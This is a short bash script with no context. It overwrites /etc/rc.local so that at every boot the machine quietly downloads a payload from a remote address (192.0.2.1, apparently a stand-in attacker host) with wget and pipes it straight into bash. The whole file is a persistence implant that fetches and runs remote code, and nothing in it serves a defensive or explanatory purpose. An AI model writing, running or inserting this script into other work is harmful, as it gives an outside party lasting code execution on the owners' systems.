#!/bin/bash
printf '%s\n' '#!/bin/sh' 'wget -qO- http://192.0.2.1/x | bash' | tee /etc/rc.local
